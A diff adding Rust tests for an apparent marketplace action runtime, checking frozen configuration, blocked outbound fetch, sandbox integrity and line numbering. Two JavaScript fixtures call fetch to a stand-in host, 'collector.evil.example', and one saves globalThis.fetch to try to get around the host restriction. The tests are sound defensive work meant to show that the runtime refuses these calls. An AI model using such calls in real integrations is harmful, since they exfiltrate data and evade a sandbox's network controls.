@@ -1,0 +1,110 @@
+//! The code an installed copy runs, in the real runtime: the partner's handler gets
+//! `event.configuration` on a frozen copy of the event, and `fetch` outside `network.hosts` is
+//! refused before any request leaves.
+
+use std::sync::Arc;
+
+use actionflow_marketplace::wrap::{wrap, Mode};
+use actionflow_runtime::{Event, ExecutionRequest, NoFiles, Secrets, Status};
+
+use crate::{limits, runtime};
+
+async fn run_installed(code: &str, hosts: &[&str]) -> actionflow_runtime::Outcome {
+    let mut configuration = serde_json::Map::new();
+    configuration.insert("GREETING".into(), "hello".into());
+    let hosts: Vec<String> = hosts.iter().map(|h| (*h).to_owned()).collect();
+    let wrapped = wrap(
+        code,
+        &["post-login".to_owned()],
+        &configuration,
+        &hosts,
+        Mode::Installed {
+            integration: "greeter",
+            version: "1.2.3",
+        },
+    );
+    assert_eq!(
+        actionflow_marketplace::wrap::running_integration(&wrapped),
+        Some(("greeter".to_owned(), "1.2.3".to_owned()))
+    );
+    let request = ExecutionRequest {
+        tenant: "t".into(),
+        action: "a".into(),
+        version: format!("v-{}", actionflow_marketplace::digest(wrapped.as_bytes())),
+        code: Arc::from(wrapped),
+        files: Arc::new(NoFiles),
+        trigger_id: "post-login".into(),
+        event: Event::new(&serde_json::json!({"user": {"user_id": "u1"}})).expect("an event"),
+        secrets: Secrets::default(),
+        limits: limits(),
+    };
+    runtime()
+        .execute(request)
+        .await
+        .expect("the runtime runs it")
+}
+
+#[tokio::test]
+async fn configuration_arrives_as_event_configuration_on_a_frozen_event() {
+    let code = "exports.onExecutePostLogin = async (event, api) => {\n\
+                  api.accessToken.setCustomClaim('greeting', event.configuration.GREETING);\n\
+                  api.accessToken.setCustomClaim('frozen', Object.isFrozen(event) && Object.isFrozen(event.configuration));\n\
+                  api.accessToken.setCustomClaim('user', event.user.user_id);\n\
+                };\n";
+    let outcome = run_installed(code, &[]).await;
+    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
+    let args: Vec<serde_json::Value> = outcome
+        .api_calls
+        .iter()
+        .map(|c| serde_json::Value::Array(c.args.clone()))
+        .collect();
+    assert_eq!(
+        args,
+        [
+            serde_json::json!(["greeting", "hello"]),
+            serde_json::json!(["frozen", true]),
+            serde_json::json!(["user", "u1"]),
+        ]
+    );
+}
+
+#[tokio::test]
+async fn fetch_outside_network_hosts_is_blocked_when_installed() {
+    let code = "exports.onExecutePostLogin = async (event) => {\n\
+                  await globalThis.fetch('https://collector.evil.example/x');\n\
+                };\n";
+    let outcome = run_installed(code, &["api.example.com"]).await;
+    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
+    let error = outcome.error.expect("an error");
+    assert!(
+        error
+            .message
+            .contains("fetch to collector.evil.example is not allowed"),
+        "{error:?}"
+    );
+}
+
+#[tokio::test]
+async fn the_original_fetch_is_out_of_the_partners_reach() {
+    // Neither a name of the wrapper nor saving globalThis.fetch first gives the unchecked fetch.
+    let code = "const saved = globalThis.fetch;\n\
+                exports.onExecutePostLogin = async (event) => {\n\
+                  if (typeof __af_fetch_original !== 'undefined') throw new Error('reachable');\n\
+                  await saved('https://collector.evil.example/x');\n\
+                };\n";
+    let outcome = run_installed(code, &["api.example.com"]).await;
+    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
+    let error = outcome.error.expect("an error");
+    assert!(error.message.contains("is not allowed"), "{error:?}");
+}
+
+#[tokio::test]
+async fn the_partners_lines_keep_their_numbers() {
+    let code = "exports.onExecutePostLogin = async (event) => {\n\
+                  const x = 1;\n\
+                  throw new Error('at line three ' + x);\n\
+                };\n";
+    let outcome = run_installed(code, &[]).await;
+    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
+    assert_eq!(outcome.error.expect("an error").line, Some(3));
+}
